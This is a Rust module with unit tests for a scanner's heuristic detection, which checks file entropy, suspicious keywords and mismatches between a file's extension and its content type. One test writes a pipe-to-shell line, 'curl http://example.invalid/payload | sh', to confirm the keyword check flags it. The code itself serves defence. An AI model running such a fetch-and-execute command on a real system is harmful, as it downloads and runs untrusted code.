//! Heuristic detection for files with no known signature.
//!
//! Three independent checks run in a fixed order:
//! - Shannon entropy of the whole file
//! - Suspicious keywords chosen by file class
//! - File extension versus sniffed content type
//!
//! A check that cannot read the file logs a warning and contributes nothing;
//! it never fails the scan.

pub mod entropy;
pub mod keywords;
pub mod mismatch;
pub mod sniffer;

pub use entropy::{EntropyAnalyzer, EntropyLevel};
pub use keywords::{FileClass, KeywordScanner};
pub use sniffer::{
    select_sniffer, ContentTypeSniffer, ExtensionSniffer, FileCommandSniffer, MagicSniffer,
};

use crate::core::config::DetectionConfig;
use std::fmt;
use std::io;
use std::path::Path;

/// Kind of heuristic that produced a finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FindingCategory {
    Entropy,
    Keyword,
    ExtensionMismatch,
}

impl FindingCategory {
    /// Short label used in threat names.
    pub fn label(&self) -> &'static str {
        match self {
            FindingCategory::Entropy => "entropy",
            FindingCategory::Keyword => "keyword",
            FindingCategory::ExtensionMismatch => "extension mismatch",
        }
    }
}

impl fmt::Display for FindingCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// One heuristic observation about a file.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub category: FindingCategory,
    pub description: String,
}

impl Finding {
    pub fn new(category: FindingCategory, description: impl Into<String>) -> Self {
        Self {
            category,
            description: description.into(),
        }
    }
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.description)
    }
}

/// Runs every heuristic check on a file.
pub struct HeuristicAnalyzer {
    entropy: EntropyAnalyzer,
    keywords: KeywordScanner,
    sniffer: Box<dyn ContentTypeSniffer>,
}

impl HeuristicAnalyzer {
    /// Build from detection settings, selecting the configured sniffer.
    pub fn new(config: &DetectionConfig) -> Self {
        Self::with_sniffer(config.entropy_threshold, select_sniffer(config.sniffer))
    }

    /// Build with an explicit content-type sniffer.
    pub fn with_sniffer(entropy_threshold: f64, sniffer: Box<dyn ContentTypeSniffer>) -> Self {
        Self {
            entropy: EntropyAnalyzer::new(entropy_threshold),
            keywords: KeywordScanner::new(),
            sniffer,
        }
    }

    pub fn sniffer_name(&self) -> &'static str {
        self.sniffer.name()
    }

    /// Run entropy, keyword and mismatch checks, in that order.
    ///
    /// Paths that are missing or not regular files yield no findings.
    pub fn analyze(&self, path: &Path) -> Vec<Finding> {
        if !path.is_file() {
            log::debug!("Skipping heuristics for non-file {:?}", path);
            return Vec::new();
        }

        let mut findings = Vec::new();

        match std::fs::read(path) {
            Ok(data) => {
                let entropy = EntropyAnalyzer::calculate(&data);
                log::trace!(
                    "{:?}: entropy {:.2} ({})",
                    path,
                    entropy,
                    EntropyAnalyzer::classify(entropy)
                );
                findings.extend(self.entropy.check(&data));
                findings.extend(self.keywords.check(&data, FileClass::of(path)));
            }
            Err(e) => warn_check_failed("entropy/keyword", path, &e),
        }

        findings.extend(self.check_extension_mismatch(path));
        findings
    }

    /// Entropy check alone.
    pub fn check_entropy(&self, path: &Path) -> Option<Finding> {
        match std::fs::read(path) {
            Ok(data) => self.entropy.check(&data),
            Err(e) => {
                warn_check_failed("entropy", path, &e);
                None
            }
        }
    }

    /// Keyword check alone.
    pub fn check_keywords(&self, path: &Path) -> Option<Finding> {
        match std::fs::read(path) {
            Ok(data) => self.keywords.check(&data, FileClass::of(path)),
            Err(e) => {
                warn_check_failed("keyword", path, &e);
                None
            }
        }
    }

    /// Extension mismatch check alone.
    pub fn check_extension_mismatch(&self, path: &Path) -> Option<Finding> {
        let ext = keywords::extension_lower(path);
        if ext.is_empty() {
            return None;
        }

        match self.sniffer.sniff(path) {
            Ok(Some(mime)) => mismatch::check(&ext, &mime),
            Ok(None) => {
                log::debug!("{} sniffer could not type {:?}", self.sniffer.name(), path);
                None
            }
            Err(e) => {
                warn_check_failed("extension mismatch", path, &e);
                None
            }
        }
    }
}

fn warn_check_failed(check: &str, path: &Path, err: &io::Error) {
    match err.kind() {
        io::ErrorKind::NotFound => log::warn!("File not found for {} check: {:?}", check, path),
        io::ErrorKind::PermissionDenied => {
            log::warn!("Permission denied for {} check: {:?}", check, path)
        }
        _ => log::warn!("Error in {} check for {:?}: {}", check, path, err),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::tempdir;

    fn analyzer() -> HeuristicAnalyzer {
        HeuristicAnalyzer::with_sniffer(7.0, Box::new(MagicSniffer))
    }

    #[test]
    fn test_clean_text_has_no_findings() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("notes.txt");
        std::fs::write(&path, "shopping list: milk, eggs, bread\n").unwrap();

        assert!(analyzer().analyze(&path).is_empty());
    }

    #[test]
    fn test_script_keywords_in_text_file() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("install.txt");
        std::fs::write(&path, "curl http://example.invalid/payload | sh\n").unwrap();

        let findings = analyzer().analyze(&path);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].category, FindingCategory::Keyword);
        assert_eq!(findings[0].description, "Suspicious keywords: curl ");
    }

    #[test]
    fn test_findings_in_fixed_order() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("random.png");
        let mut data: Vec<u8> = (0..=255u8).collect::<Vec<_>>().repeat(8);
        data.extend_from_slice(b"This program cannot be run in DOS mode");
        std::fs::write(&path, &data).unwrap();

        let findings = analyzer().analyze(&path);
        let categories: Vec<_> = findings.iter().map(|f| f.category).collect();
        assert_eq!(
            categories,
            vec![
                FindingCategory::Entropy,
                FindingCategory::Keyword,
                FindingCategory::ExtensionMismatch
            ]
        );
        assert_eq!(
            findings[2].description,
            "Extension mismatch: .png but detected as application/octet-stream"
        );
    }

    #[test]
    fn test_executable_disguised_as_text() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("readme.txt");
        std::fs::write(&path, b"MZ\x90\x00\x03\x00\x00\x00\x04\x00").unwrap();

        let finding = analyzer().check_extension_mismatch(&path).unwrap();
        assert_eq!(
            finding.description,
            "Extension mismatch: .txt but detected as application/x-dosexec"
        );
    }

    #[test]
    fn test_pe_renamed_to_text_reports_markers() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("readme.txt");
        let mut data = b"hello\n".to_vec();
        data.extend_from_slice(b"MZ\x90\x00\x03\x00This program cannot be run in DOS mode.");
        std::fs::write(&path, &data).unwrap();

        let analyzer = HeuristicAnalyzer::with_sniffer(7.0, Box::new(ExtensionSniffer));
        let findings = analyzer.analyze(&path);
        let keyword = findings
            .iter()
            .find(|f| f.category == FindingCategory::Keyword)
            .unwrap();
        assert_eq!(
            keyword.description,
            "Suspicious keywords: 'MZ header' in non-executable, 'DOS stub' in non-executable"
        );
    }

    #[cfg(unix)]
    #[test]
    fn test_directory_with_image_extension_yields_nothing() {
        use std::os::unix::fs::PermissionsExt;

        let dir = tempdir().unwrap();
        let album = dir.path().join("album.png");
        std::fs::create_dir(&album).unwrap();

        // Stand-in for `file` that types everything as a directory
        let stub = dir.path().join("fake-file");
        std::fs::write(&stub, "#!/bin/sh\necho inode/directory\n").unwrap();
        std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();

        let sniffer = FileCommandSniffer::with_program(stub.to_string_lossy().into_owned());
        let analyzer = HeuristicAnalyzer::with_sniffer(7.0, Box::new(sniffer));
        assert!(analyzer.analyze(&album).is_empty());
        assert!(analyzer.analyze(dir.path()).is_empty());
    }

    #[test]
    fn test_missing_file_yields_nothing() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("gone.txt");

        let analyzer = analyzer();
        assert!(analyzer.analyze(&path).is_empty());
        assert!(analyzer.check_entropy(&path).is_none());
        assert!(analyzer.check_keywords(&path).is_none());
    }

    #[test]
    fn test_from_config() {
        let mut config = DetectionConfig::default();
        config.sniffer = crate::core::config::SnifferKind::Extension;
        let analyzer = HeuristicAnalyzer::new(&config);
        assert_eq!(analyzer.sniffer_name(), "extension");
    }

    #[test]
    fn test_category_labels() {
        assert_eq!(FindingCategory::Entropy.to_string(), "entropy");
        assert_eq!(
            FindingCategory::ExtensionMismatch.label(),
            "extension mismatch"
        );
    }
}
